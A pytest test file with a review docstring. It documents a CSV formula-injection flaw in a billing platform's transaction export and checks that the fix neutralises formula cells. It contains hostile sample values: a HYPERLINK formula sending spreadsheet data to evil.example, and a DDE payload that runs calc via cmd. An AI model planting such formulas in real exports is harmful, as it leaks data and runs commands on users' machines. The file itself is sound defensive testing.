"""Session 15 review: CSV exports carry text a tenant chose (usage event properties such as ``user``, ``model``,
``operation``; reasons, business names) into the platform's finance spreadsheets unescaped. On the real stack
(namespace review15c) a tenant's own service token sent ``{"user": "=HYPERLINK(\\"http://evil.example/?x=\\"&A1,
\\"Open\\")"}`` with a usage event; ``GET /v1/reports/transactions?format=csv`` (finance) wrote the cell as
``=HYPERLINK(...)``, which a spreadsheet opens as a formula (CSV/formula injection, OWASP). A cell of text beginning
with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return) must be written so that it is read as text, while
numbers such as ``-0.01`` stay numbers. The test still marked xfail (strict) fails on the current code."""

from __future__ import annotations

import csv
import io

import pytest
from billing_projections.exports import csv_of


async def exported(columns: tuple[str, ...], items: list[dict[str, object]]) -> list[list[str]]:
    response = csv_of(columns, items, "transactions")
    text = "".join([chunk async for chunk in response.body_iterator])  # type: ignore[misc]
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.xfail(strict=True, reason="review s15: billing_projections.exports._cell writes text cells as they are")
async def test_a_tenants_text_never_becomes_a_spreadsheet_formula() -> None:
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    rows = await exported(("tenant", "amount", "user", "detail"), [
        {"tenant": "acme", "amount": "-0.01", "user": attack, "detail": "@SUM(1+1)*cmd|' /C calc'!A0"},
        {"tenant": "acme", "amount": "-2.50", "user": "+1+1", "detail": "-2+3"}])
    cells = [cell for row in rows[1:] for cell in (row[2], row[3])]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells
    assert [row[1] for row in rows[1:]] == ["-0.01", "-2.50"]  # amounts stay numbers
